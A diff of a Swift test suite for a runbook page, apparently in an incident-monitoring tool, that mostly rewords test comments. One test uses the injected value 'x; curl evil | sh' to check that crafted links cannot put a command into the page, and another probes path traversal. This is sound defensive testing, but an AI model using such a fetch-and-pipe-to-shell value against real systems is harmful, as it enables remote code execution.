@@ -63,7 +63,7 @@ struct RunbookPageTests {
         #expect(count > 200)
     }
 
-    // MARK: Which alert it is filled in for
+    // MARK: Choice of the alert
 
     private func alert(_ nodes: [String]) -> RuledAlert {
         let alerts = nodes.map { node in
@@ -86,18 +86,18 @@ struct RunbookPageTests {
     @Test func theFiringAlertFillsItIn() {
         #expect(node(["vault-1"], []) == "vault-1")
         #expect(node(["vault-1", "vault-2"], [("node", "vault-2")]) == "vault-2")
-        // Which of two is not known.
+        // Ambiguous between two.
         #expect(node(["vault-1", "vault-2"], []) == nil)
         #expect(node([], []) == nil)
     }
 
-    /// Whoever makes a link must not put a command of theirs into a page of ours.
+    /// A crafted link must not inject a command into a page.
     @Test func labelsOfAnAddressAloneFillNothingIn() {
         #expect(node([], [("node", "x; curl evil | sh")]) == nil)
         #expect(node(["vault-1"], [("node", "x; curl evil | sh")]) == nil)
     }
 
-    /// After its end the page of its incident still leads to it.
+    /// After the alert is resolved the page of its incident still links to it.
     @Test func anEndedIncidentFillsItIn() {
         var snapshot = EstateSnapshot(now: Fixtures.now)
         var record = IncidentRecord(
@@ -142,7 +142,7 @@ struct RunbookPageTests {
         #expect(await get("/runbooks/..", "x").status == 404)
     }
 
-    /// A file with a mistake says so, and the rule's own words stand in its place.
+    /// For a file with an error the page shows the error, and the rule's annotations instead.
     @Test func aBrokenRunbookSaysWhatIsWrong() async {
         let page = await get("/runbooks/VaultSealed", "broken")
         #expect(page.status == 200 && page.text.contains("line 3, column 5: no such function"))
